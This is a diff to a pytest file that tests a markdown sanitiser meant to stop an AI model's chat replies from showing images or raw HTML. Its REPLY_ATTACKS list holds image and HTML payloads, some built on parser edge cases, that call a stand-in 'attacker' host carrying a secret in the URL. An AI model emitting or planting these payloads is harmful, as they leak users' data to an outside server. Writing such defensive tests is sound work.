@@ -8,7 +8,7 @@ import re
 import pytest
 from markdown_it import MarkdownIt
 
-from backend.text_safety import plain_markdown, plain_markdown_lines, plotly_text
+from backend.text_safety import plain_markdown, plain_markdown_lines, plotly_text, reply_markdown
 
 PAYLOADS = [
     "![x](http://evil/a.png)",
@@ -115,3 +115,79 @@ def test_plain_markdown_lines_keeps_each_line_and_no_line_starts_a_block():
         "<p>Hello ![x](http:\u200b//evil/a.png)<br />\n# head<br />\n- item<br />\n"
         "\u00a0\u00a0\u00a0\u00a0code<br />\n&gt; quote</p>\n<p>new paragraph</p>\n"
     )
+
+
+def _tokens(source: str) -> list:
+    parser = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
+    tokens = []
+    for token in parser.parse(source):
+        tokens.append(token)
+        tokens.extend(token.children or [])
+    return tokens
+
+
+# Ways a model's reply could show an image or raw HTML, the code-shaped ones included: a fence or
+# span this module wrongly took for code would let what is inside through.
+REPLY_ATTACKS = [
+    "Sure! ![](http://attacker/?q=secret)",
+    "![a][ref]\n\n[ref]: http://attacker/x.png",
+    "![shortcut]\n\n[shortcut]: http://attacker/x.png",
+    "[![inner](http://attacker/i.png)](http://site)",
+    "\\\\![double backslash](http://attacker/a.png)",
+    "<img src=http://attacker/a.png>",
+    "<div>\n<img src=x>\n</div>",
+    "- item\n\n  ```\n![fence ended by the list](http://attacker/a.png)\n  ```",
+    "> ```\n\n![fence ended by the quote](http://attacker/a.png)\n```",
+    "| a | b |\n| - | - |\n| `x | ![cell](http://attacker/a.png) | y` | z |",
+    "`a ``b` ![between](http://attacker/a.png) ``",
+    "<a href='`'>![x](http://attacker/a.png)`</a>",
+    "~~~\n~~~~\n![x](http://attacker/a.png)",
+]
+# Replies that show no image as they are, and must not be turned into one (an escape undone, code
+# taken for prose or prose for code).
+SAFE_LOOKALIKES = [
+    "\\![escaped bang](http://attacker/a.png)",
+    "<http://attacker/autolink>",
+    "```\nnever closed\n![x](http://attacker/a.png)",
+    "\\`` ![x](http://attacker/a.png) `",
+]
+
+
+_LIVE = {"image", "html_inline", "html_block"}
+
+
+@pytest.mark.parametrize("reply", REPLY_ATTACKS + SAFE_LOOKALIKES)
+def test_reply_markdown_shows_no_image_and_no_raw_html(reply):
+    assert not {token.type for token in _tokens(reply_markdown(reply))} & _LIVE
+
+
+@pytest.mark.parametrize("reply", REPLY_ATTACKS)
+def test_each_attack_is_live_without_reply_markdown(reply):
+    # So the test above would catch a reply_markdown that did nothing.
+    assert {token.type for token in _tokens(reply)} & _LIVE
+
+
+def test_reply_markdown_keeps_the_models_formatting_and_its_code_as_written():
+    reply = (
+        "## Steps\n\n1. **Bold** and _it_\n2. a [link](https://example.com)\n\n"
+        "| x | y |\n| - | - |\n| 1 | 2 |\n\n"
+        "```python\nif a < b and not x![0]:\n    print('<b>')\n```\n\nUse `a < b` and `![x](y)` literally."
+    )
+    shown = reply_markdown(reply)
+    assert shown == reply  # nothing outside code needed changing
+    rendered = _render(shown)
+    for tag in ("<h2>", "<ol>", "<strong>", "<em>", '<a href="https://example.com">', "<table>"):
+        assert tag in rendered
+    assert "if a &lt; b and not x![0]:\n    print('&lt;b&gt;')" in rendered
+    assert "<code>![x](y)</code>" in rendered
+
+
+def test_reply_markdown_shows_the_neutralised_parts_as_their_text():
+    rendered = _render(reply_markdown("Look ![cat](http://x/c.png) and 1 < 2 <b>bold</b>"))
+    assert '<a href="http://x/c.png">cat</a>' in rendered  # a link fetches nothing until clicked
+    assert html.unescape(re.sub(r"<a [^>]*>|</a>", "", rendered)) == "<p>Look !cat and 1 < 2 <b>bold</b></p>\n"
+
+
+def test_reply_markdown_keeps_lines_and_empty_replies():
+    assert reply_markdown("") == ""
+    assert reply_markdown("a\r\n\r\n```\n```\n\n```\nb\n```") == "a\n\n```\n```\n\n```\nb\n```"
